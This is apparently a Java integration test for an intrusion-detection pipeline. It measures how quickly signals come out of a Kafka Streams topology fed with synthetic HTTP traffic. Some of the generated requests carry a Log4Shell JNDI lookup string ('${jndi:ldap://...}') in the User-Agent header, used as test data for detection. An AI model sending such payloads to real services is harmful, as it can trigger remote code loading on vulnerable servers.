package io.periscope.detection.streams;

import io.micrometer.core.instrument.distribution.ValueAtPercentile;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.periscope.broker.EmbeddedKafkaBroker;
import io.periscope.detection.Traffic;
import io.periscope.detection.signature.engine.SignatureEngine;
import io.periscope.events.detection.Signal;
import io.periscope.events.http.HttpExchange;
import io.periscope.events.kafka.JsonSerde;
import io.periscope.events.kafka.TopicProvisioner;
import io.periscope.events.kafka.Topics;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.apache.kafka.streams.KafkaStreams;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Detection lag through a real broker, the target being at most 5 s at p95: exchanges are published as they
 * happen (event time = wall clock at publishing) at a steady {@value #RATE} per second, one in
 * {@value #ATTACK_EVERY} carrying a Log4Shell lookup in its User-Agent, through the whole topology with the default
 * commit interval (5 s). Measured twice: by a consumer of {@code periscope.signals} (arrival of the signal
 * minus the exchange's event time: publishing, both topology steps, the repartition topic and the signals topic), and
 * by {@code periscope.detection.lag}, which detection records when it emits a signal (printed only: it also holds
 * the start-up, when exchanges wait for the first rebalance). Measured from the first signal on, for
 * {@value #SECONDS} s; the figures are printed for docs/performance.md.
 */
class DetectionLagIntegrationTest {
    static final int RATE = 200;
    static final int SECONDS = 20;
    static final int ATTACK_EVERY = 20;

    @TempDir
    Path tmp;

    @Test
    void signalsArriveWithinFiveSecondsOfTheirExchangeAtP95() throws Exception {
        try (EmbeddedKafkaBroker broker = EmbeddedKafkaBroker.start(tmp.resolve("kafka"), "127.0.0.1", 0)) {
            try (Admin admin = Admin.create(broker.clientProperties())) {
                new TopicProvisioner(admin, Duration.ofSeconds(30))
                        .ensure(Topics.defaults().stream().map(s -> s.withPartitions(2)).toList());
            }
            SimpleMeterRegistry registry = new SimpleMeterRegistry();
            List<Long> lags = new ArrayList<>();
            Window window = new Window();
            try (KafkaConsumer<String, Signal> signals = consumer(broker);
                 DetectionStreams streams = new DetectionStreams(DetectionStreams.properties(broker.clientProperties(),
                         "detection-lag", tmp.resolve("state"), 1, Duration.ofSeconds(5)), DetectionConfig.defaults(),
                         new EngineSignatures(SignatureEngine.withDefaults()), new DetectionMetrics(registry))) {
                streams.start();
                await().atMost(Duration.ofSeconds(60)).until(() -> streams.state() == KafkaStreams.State.RUNNING);
                Thread producer = new Thread(() -> produce(broker, window), "lag-producer");
                producer.start();
                await().atMost(Duration.ofSeconds(SECONDS + 120)).pollInterval(Duration.ofMillis(10)).until(() -> {
                    for (var r : signals.poll(Duration.ofMillis(50))) {
                        long now = System.currentTimeMillis();
                        long eventMillis = r.value().eventTimeMicros() / 1000;
                        if (window.from == 0) {
                            // the first signal shows the pipeline flowing end to end (start-up and the rebalance
                            // after the repartition topic was created are over): measure from now on
                            window.from = now;
                            window.until = now + SECONDS * 1000L;
                        } else if (eventMillis >= window.from && eventMillis < window.until) {
                            lags.add(now - eventMillis);
                        }
                    }
                    return !producer.isAlive() && lags.size() >= window.attacks.get();
                });
                producer.join();
            }
            List<Long> sorted = new ArrayList<>(lags);
            Collections.sort(sorted);
            long p50 = sorted.get(sorted.size() / 2);
            long p95 = sorted.get((int) Math.ceil(sorted.size() * 0.95) - 1);
            long max = sorted.get(sorted.size() - 1);
            double metricP95 = 0;
            for (ValueAtPercentile v : registry.get("periscope.detection.lag").timer().takeSnapshot().percentileValues()) {
                if (v.percentile() == 0.95) {
                    metricP95 = v.value(TimeUnit.MILLISECONDS);
                }
            }
            System.out.printf("detection lag over %d signals in %d s at %d exchanges/s: consumer p50 %d ms, p95 %d ms,"
                    + " max %d ms; periscope.detection.lag p95 %.0f ms (start-up included)%n", sorted.size(), SECONDS, RATE,
                    p50, p95, max, metricP95);
            assertThat(p95).as("exchange to signal on periscope.signals, p95 (ms)").isLessThanOrEqualTo(5000);
        }
    }

    /** The measured period (wall clock), set at the first signal, and the attacks published within it. */
    private static final class Window {
        volatile long from;
        volatile long until;
        final AtomicInteger attacks = new AtomicInteger();
    }

    /**
     * {@value #RATE} exchanges a second, each stamped with the time it is published, until the measured window is
     * over.
     */
    private static void produce(EmbeddedKafkaBroker broker, Window window) {
        try (KafkaProducer<String, HttpExchange> producer = new KafkaProducer<>(broker.clientProperties(),
                new StringSerializer(), JsonSerde.of(HttpExchange.class))) {
            long start = System.currentTimeMillis();
            for (int i = 0; window.until == 0 || System.currentTimeMillis() < window.until; i++) {
                long wait = start + i * 1000L / RATE - System.currentTimeMillis();
                if (wait > 0) {
                    Thread.sleep(wait);
                }
                long now = System.currentTimeMillis();
                Traffic t = Traffic.from("192.0.2." + (10 + i % 50)).token(String.format("%032x", i % 50))
                        .get("/api/products/" + (100 + i % 500)).at(now * 1000);
                if (i % ATTACK_EVERY == ATTACK_EVERY - 1) {
                    t = Traffic.from("203.0.113.50").agent("${jndi:ldap://198.51.100.9/a}").get("/api/products")
                            .at(now * 1000);
                    if (window.from != 0 && now >= window.from && now < window.until) {
                        window.attacks.incrementAndGet();
                    }
                }
                HttpExchange e = t.build();
                producer.send(new ProducerRecord<>(Topics.EXCHANGES, null, now, e.serviceKey(), e));
            }
            producer.flush();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static KafkaConsumer<String, Signal> consumer(EmbeddedKafkaBroker broker) {
        Map<String, Object> p = new HashMap<>(broker.clientProperties());
        p.put(ConsumerConfig.GROUP_ID_CONFIG, "lag-" + UUID.randomUUID());
        p.put(ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest");
        KafkaConsumer<String, Signal> c = new KafkaConsumer<>(p, new StringDeserializer(), JsonSerde.of(Signal.class));
        c.subscribe(List.of(Topics.SIGNALS));
        return c;
    }
}
